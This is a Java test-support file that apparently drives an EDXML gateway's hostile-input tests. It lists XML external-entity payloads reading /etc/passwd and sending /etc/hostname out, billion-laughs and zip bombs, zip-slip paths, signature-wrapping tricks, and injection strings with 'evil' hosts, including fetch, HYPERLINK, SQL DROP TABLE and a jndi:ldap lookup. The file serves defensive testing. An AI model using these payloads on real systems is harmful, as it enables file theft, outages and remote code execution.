package vn.docaxis.gateway;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static vn.docaxis.edxml.EnvelopeBuilder.anEnvelope;

import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.util.List;
import java.util.function.Function;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import vn.docaxis.edxml.OrganId;
import vn.docaxis.edxml.file.RawZip;

/**
 * One envelope that means harm.
 *
 * @param number of the attack in the checklist of this project
 * @param what   is sent
 * @param code   of the refusal; {@link #DEFUSED} if it is accepted and does nothing
 */
record HostileInput(int number, String what, String code, Function<Target, byte[]> envelope) {
    /** Relayed with the bytes that were signed, and harmless. */
    static final String DEFUSED = "defused";

    private static final String PLACE = "<edXML:Subject>V/v ";
    private static final String TRANSFORM = "<ds:Transform Algorithm=\"";

    /** Whom it is sent to, and as whom. */
    record Target(Sandbox sandbox, OrganId originator, OrganId recipient, URI trap) {
        byte[] with(String name, byte[] octets) {
            return sandbox.signed(anEnvelope()
                    .from(originator)
                    .to(recipient)
                    .attachment("a.pdf", "%PDF-1.4".getBytes(UTF_8))
                    .attachment(name, octets));
        }

        String text() {
            return new String(with("b.pdf", "%PDF-1.7".getBytes(UTF_8)), UTF_8);
        }
    }

    @Override
    public String toString() {
        return "(%d) %s".formatted(number, what);
    }

    static List<HostileInput> all() {
        return Stream.of(xml(), signatures(), payload(), exchange())
                .flatMap(List::stream)
                .toList();
    }

    private static HostileInput text(int number, String what, String code, UnaryOperator<String> change) {
        return at(number, what, code, (text, trap) -> change.apply(text));
    }

    @FunctionalInterface
    private interface Change {
        String of(String text, String trap);
    }

    private static HostileInput at(int number, String what, String code, Change change) {
        return new HostileInput(number, what, code, target -> {
            String before = target.text();
            String after = change.of(before, target.trap().toString());
            assertThat(after).as("the attack took effect").isNotEqualTo(before);
            return after.getBytes(UTF_8);
        });
    }

    private static String before(String text, String place, String added) {
        return text.replaceFirst(place, Matcher.quoteReplacement(added) + "$0");
    }

    private static HostileInput doctype(int number, String what, String subset) {
        return at(
                number,
                what,
                "XML-002",
                (text, trap) -> before(text, "<edXML ", "<!DOCTYPE edXML " + subset.replace("TRAP", trap) + ">")
                        .replaceFirst("V/v ", "&x;"));
    }

    private static List<HostileInput> xml() {
        return List.of(
                doctype(1, "an entity from a file", "[<!ENTITY x SYSTEM \"file:///etc/passwd\">]"),
                doctype(1, "an entity over HTTP", "[<!ENTITY x SYSTEM \"TRAP/x\">]"),
                doctype(1, "a parameter entity", "[<!ENTITY % p SYSTEM \"TRAP/p.dtd\"> %p;]"),
                doctype(
                        1,
                        "a parameter entity that sends a file away",
                        "[<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % e \"<!ENTITY x SYSTEM 'TRAP/?%f;'>\"> %e;]"),
                doctype(2, "billion laughs", laughs()),
                doctype(2, "quadratic blow-up", "[<!ENTITY x \"" + "a".repeat(50_000) + "\">]"),
                at(
                        3,
                        "XInclude",
                        "SIG-001",
                        (text, trap) -> text.replaceFirst(
                                PLACE,
                                "$0<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + trap
                                        + "/x\" parse=\"text\"/>")),
                at(
                        3,
                        "a schema to fetch",
                        DEFUSED,
                        (text, trap) -> text.replaceFirst(
                                "<edXML ",
                                "$0xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x "
                                        + trap + "/x.xsd\" ")),
                doctype(3, "an external DTD", "SYSTEM \"TRAP/x.dtd\" [<!ENTITY x \"\">]"),
                transform(4, "an XSLT transform", "http://www.w3.org/TR/1999/REC-xslt-19991116"),
                transform(4, "an XPath transform", "http://www.w3.org/TR/1999/REC-xpath-19991116"),
                transform(4, "an XPath filter 2 transform", "http://www.w3.org/2002/06/xmldsig-filter2"),
                at(
                        5,
                        "a RetrievalMethod over HTTP",
                        "SIG-014",
                        (text, trap) ->
                                text.replaceFirst("<ds:KeyInfo>", "$0<ds:RetrievalMethod URI=\"" + trap + "/key\"/>")),
                text(
                        5,
                        "a KeyInfoReference",
                        "SIG-014",
                        text -> text.replaceFirst(
                                "<ds:KeyInfo>",
                                "$0<dsig11:KeyInfoReference xmlns:dsig11=\"http://www.w3.org/2009/xmldsig11#\" URI=\"#key\"/>")),
                text(
                        5,
                        "a reference to a file",
                        "SIG-009",
                        text -> text.replaceFirst(
                                "(<ds:Reference [^>]*)URI=\"cid:[^\"]*\"", "$1URI=\"file:///etc/passwd\"")),
                at(
                        5,
                        "a reference over HTTP",
                        "SIG-009",
                        (text, trap) -> text.replaceFirst(
                                "(<ds:Reference [^>]*)URI=\"cid:[^\"]*\"", "$1URI=\"" + trap + "/x\"")),
                text(
                        6,
                        "a hundred elements deep",
                        "XML-004",
                        text -> text.replaceFirst(PLACE, "$0" + "<a>".repeat(100) + "</a>".repeat(100))),
                text(
                        6,
                        "ten thousand attributes",
                        "XML-004",
                        text -> text.replaceFirst("<edXML:Subject", "$0" + numbered(10_000, " a%d=\"\""))),
                text(
                        6,
                        "a text of a million and a half letters",
                        "XML-004",
                        text -> text.replaceFirst(PLACE, "$0" + "a".repeat(1_500_000))),
                text(
                        6,
                        "a comment of a million and a half letters",
                        "XML-004",
                        text -> text.replaceFirst(PLACE, "$0<!--" + "a".repeat(1_500_000) + "-->")),
                text(
                        6,
                        "forty thousand elements",
                        "XML-004",
                        text -> text.replaceFirst(PLACE, "$0" + "<a/>".repeat(40_000))),
                text(
                        7,
                        "an Id twice",
                        "SIG-011",
                        text -> text.replaceFirst("<edXML:Subject>", "<edXML:Subject Id=\"header\">")),
                text(
                        7,
                        "an id in small letters",
                        "SIG-011",
                        text -> text.replaceFirst("<edXML:Subject>", "<edXML:Subject id=\"header\" ID=\"header\">")),
                text(
                        7,
                        "an Id of a foreign namespace",
                        "SIG-011",
                        text -> text.replaceFirst(
                                "<edXML:Subject>", "<edXML:Subject xmlns:x=\"urn:x\" x:Id=\"header\">")),
                new HostileInput(8, "UTF-16", "XML-003", target -> target.text().getBytes(UTF_16)),
                text(8, "UTF-7 declared", "XML-003", text -> text.replaceFirst("UTF-8", "UTF-7")),
                text(8, "Latin 1 declared, UTF-8 sent", "XML-003", text -> text.replaceFirst("UTF-8", "ISO-8859-1")),
                new HostileInput(8, "bytes that are no UTF-8", "XML-001", target -> {
                    byte[] bytes = target.text().replaceFirst("V/v ", "#/v ").getBytes(UTF_8);
                    for (int i = 0; i < bytes.length; i++) {
                        bytes[i] = bytes[i] == '#' && bytes[i + 1] == '/' ? (byte) 0xC0 : bytes[i];
                    }
                    return bytes;
                }),
                text(8, "a byte order mark before UTF-8", DEFUSED, text -> "\uFEFF" + text),
                text(
                        9,
                        "a prefix bound anew",
                        "SIG-001",
                        text -> text.replaceFirst("<edXML:Subject>", "<edXML:Subject xmlns:edXML=\"urn:x\">")),
                text(
                        9,
                        "another default namespace",
                        "SIG-001",
                        text -> text.replaceFirst("<edXML:Subject>", "<Subject xmlns=\"urn:x\">giả mạo</Subject>$0")),
                text(
                        9,
                        "an undeclared prefix",
                        "XML-001",
                        text -> text.replaceFirst("<edXML:Subject>", "<edXML:Subject none:a=\"\">")),
                text(
                        10,
                        "a comment that splits a signed text",
                        DEFUSED,
                        text -> text.replaceFirst(PLACE, "$0<!-- x -->")),
                text(
                        10,
                        "a CDATA section within a signed text",
                        DEFUSED,
                        text -> text.replaceFirst("V/v ", "<![CDATA[V/v ]]>")),
                text(
                        10,
                        "a comment that splits the originator's id",
                        DEFUSED,
                        text -> text.replaceFirst("(<edXML:OrganId>T)", "$1<!-- x -->")),
                text(10, "a processing instruction", "XML-005", text -> text.replaceFirst(PLACE, "$0<?x y?>")),
                text(
                        11,
                        "a namespace that no canonical form can have",
                        "SIG-014",
                        text -> text.replaceFirst(
                                "<edXML:Subject>", "<edXML:Subject xmlns:x=\"../relative\" x:a=\"\">")),
                text(
                        11,
                        "a canonicalization that nobody knows",
                        "SIG-007",
                        text -> text.replaceFirst("(<ds:CanonicalizationMethod Algorithm=\")[^\"]*", "$1urn:none")),
                text(12, "a second document behind the first", "XML-001", text -> text + text),
                text(12, "XML 1.1", "XML-001", text -> text.replaceFirst("version=\"1.0\"", "version=\"1.1\"")),
                text(
                        12,
                        "two subjects",
                        "SIG-001",
                        text -> text.replaceFirst("<edXML:Subject>", "<edXML:Subject>giả mạo</edXML:Subject>$0")));
    }

    private static HostileInput transform(int number, String what, String algorithm) {
        return text(number, what, "SIG-007", text -> text.replaceFirst(TRANSFORM + "[^\"]*", TRANSFORM + algorithm));
    }

    private static String laughs() {
        String laughs = IntStream.range(1, 30)
                .mapToObj(i -> "<!ENTITY e%d \"&e%d;&e%d;\">".formatted(i, i - 1, i - 1))
                .reduce("", String::concat);
        return "[<!ENTITY e0 \"ha\">" + laughs + "<!ENTITY x \"&e29;\">]";
    }

    private static String numbered(int count, String form) {
        StringBuilder all = new StringBuilder();
        for (int i = 0; i < count; i++) {
            all.append(form.formatted(i));
        }
        return all.toString();
    }

    private static List<HostileInput> signatures() {
        return List.of(
                text(
                        14,
                        "the signature taken away",
                        "SIG-003",
                        text -> text.replaceFirst("(?s)<ds:Signature .*</ds:Signature>", "")),
                text(15, "no reference", "SIG-014", text -> text.replaceAll("(?s)<ds:Reference .*</ds:Reference>", "")),
                text(
                        17,
                        "SHA-1",
                        "SIG-008",
                        text -> text.replaceFirst("xmldsig-more#ecdsa-sha256", "xmldsig-more#ecdsa-sha1")),
                text(
                        24,
                        "an attachment exchanged under a valid signature",
                        "SIG-001",
                        text -> text.replace("JVBERi0xLjc", "JVBERi0xLjY")),
                text(
                        25,
                        "an attachment taken away",
                        "SIG-009",
                        text -> text.replaceFirst("(?s)<Attachment>.*?</Attachment>", "")),
                text(
                        25,
                        "an attachment that the manifest does not name",
                        "ATT-005",
                        text -> text.replaceFirst("(?s)(<Attachment>.*?</Attachment>)", "$1$1")));
    }

    private static HostileInput zip(int number, String what, String code, RawZip zip) {
        return file(number, what, code, "a.txt", zip.bytes());
    }

    private static HostileInput file(int number, String what, String code, String name, byte[] octets) {
        return new HostileInput(number, what, code, target -> target.with(name, octets));
    }

    private static List<HostileInput> payload() {
        byte[] text = "Danh sách".getBytes(UTF_8);
        RawZip many = new RawZip();
        for (int i = 0; i < 10_000; i++) {
            many.with(Integer.toString(i), new byte[0], entry -> {});
        }
        byte[] bomb = RawZip.of("a.txt", new byte[12 << 20]).bytes();
        return List.of(
                zip(26, "a zip bomb", "ATT-012", RawZip.of("a.txt", new byte[12 << 20])),
                zip(26, "a zip bomb within a zip", "ATT-012", RawZip.of("b.zip", bomb)),
                zip(26, "ten thousand entries", DEFUSED, many),
                zip(26, "an entry that leads out of its folder", "ATT-011", RawZip.of("../../etc/cron.d/x", text)),
                zip(
                        26,
                        "an entry that leads out of its folder on Windows",
                        "ATT-011",
                        RawZip.of("..\\..\\x.exe", text)),
                zip(26, "an entry with an absolute path", "ATT-011", RawZip.of("/etc/passwd", text)),
                zip(
                        26,
                        "a symbolic link",
                        "ATT-011",
                        RawZip.of(
                                "a.txt", "/etc/passwd".getBytes(UTF_8), entry -> entry.attributes = RawZip.UNIX_LINK)),
                zip(26, "an encrypted entry", "ATT-002", RawZip.of("a.txt", text, entry -> entry.flags = 1)),
                zip(
                        26,
                        "an entry that lies about its size",
                        "ATT-002",
                        RawZip.of("a.txt", new byte[1 << 20], entry -> entry.size = 1000)),
                zip(
                        26,
                        "another name in the directory than at the entry",
                        "ATT-011",
                        RawZip.of("a.txt", text, entry -> entry.localName = "../x.txt".getBytes(UTF_8))),
                text(27, "base64 with junk", "ATT-001", t -> t.replace("JVBERi0xLjc", "JVBE!i0xLjc")),
                text(27, "base64 that ends amid a group", "ATT-001", t -> t.replace("JVBERi0xLjc=", "JVBERi0xLjc")),
                text(27, "base64 in lines", DEFUSED, t -> t.replace("JVBERi0xLjc", "JVBE\r\n\tRi0x Ljc")),
                file(28, "a file name that climbs", DEFUSED, "../../../etc/cron.d/x.pdf", text),
                file(28, "an absolute file name", DEFUSED, "/etc/passwd", text),
                file(28, "a drive letter", DEFUSED, "C:\\Windows\\x.pdf", text),
                file(28, "a line break in a file name", DEFUSED, "a\r\nSet-Cookie: x=1.pdf", text),
                file(28, "a file name that reads from right to left", DEFUSED, "a\u202Efdp.exe", text),
                file(28, "a file name of four thousand letters", DEFUSED, "a".repeat(4000) + ".pdf", text),
                file(28, "a name that Windows keeps for itself", DEFUSED, "CON.pdf", text),
                text(28, "NUL in a file name", "XML-001", t -> t.replaceFirst("<AttachmentName>", "$0&#0;")),
                new HostileInput(
                        28,
                        "twins that differ in composition only",
                        DEFUSED,
                        target -> target.sandbox()
                                .signed(anEnvelope()
                                        .from(target.originator())
                                        .to(target.recipient())
                                        .attachment("\u00e0.pdf", text)
                                        .attachment("a\u0300.pdf", text))),
                file(29, "a program that calls itself PDF", DEFUSED, "a.pdf", new byte[] {'M', 'Z', 0, 3}),
                file(29, "HTML with a script", DEFUSED, "a.html", "<script>alert(1)</script>".getBytes(UTF_8)),
                file(
                        29,
                        "SVG with a script",
                        DEFUSED,
                        "a.svg",
                        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>".getBytes(UTF_8)),
                new HostileInput(31, "more than the largest envelope", "GWY-002", target -> {
                    ByteArrayOutputStream large = new ByteArrayOutputStream();
                    large.writeBytes(target.text().getBytes(UTF_8));
                    large.writeBytes(new byte[HostileInputIT.LARGEST - large.size() + 1]);
                    return large.toByteArray();
                }));
    }

    private static HostileInput subject(int number, String what, String subject) {
        return new HostileInput(
                number,
                what,
                DEFUSED,
                target -> target.sandbox()
                        .signed(anEnvelope()
                                .from(target.originator())
                                .to(target.recipient())
                                .subject(subject)));
    }

    private static List<HostileInput> exchange() {
        return List.of(
                new HostileInput(
                        20,
                        "the valid signature of another organ",
                        "CRT-004",
                        target -> target.sandbox()
                                .signed(
                                        anEnvelope()
                                                .from(target.originator())
                                                .to(target.recipient())
                                                .document(),
                                        List.of(),
                                        target.recipient())),
                new HostileInput(
                        35,
                        "an envelope of another originator, caught and sent again",
                        "ORG-003",
                        target -> target.sandbox()
                                .signed(anEnvelope().from(target.recipient()).to(target.originator()))),
                subject(43, "a script in the subject", "<script>fetch('//evil')</script>"),
                subject(44, "a formula in the subject", "=HYPERLINK(\"http://evil\",\"x\")"),
                subject(45, "SQL in the subject", "'; DROP TABLE document; --"),
                subject(47, "an expression in the subject", "${7*7} #{7*7} T(java.lang.Runtime)"),
                subject(
                        48,
                        "a line break and a look-up in the subject",
                        "a\r\n2026 ERROR forged ${jndi:ldap://evil/x}"));
    }
}
